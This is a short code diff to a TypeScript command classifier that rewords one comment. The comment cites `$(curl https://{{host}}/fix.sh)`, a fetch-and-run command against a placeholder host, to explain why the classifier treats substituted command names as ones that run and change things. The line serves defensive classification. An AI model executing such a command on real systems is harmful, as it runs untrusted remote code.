@@ -142,7 +142,7 @@ class Finder {
   }
 
   #classify(name: string, facts: CommandFacts | undefined, first: Word, rest: readonly Word[]): Verdict {
-    // Whoever says what the command is can say everything: `$(curl https://{{host}}/fix.sh)`.
+    // A value that says what the command is can say everything: `$(curl https://{{host}}/fix.sh)`.
     const isSaid = hasMark(name) || /^[$<`]/.test(first.text);
     if (isSaid && first.slots.size > 0) return { does: 'changes', verb: 'run', byRule: true };
     if (!facts) return { does: 'unknown', verb: name, byRule: false };
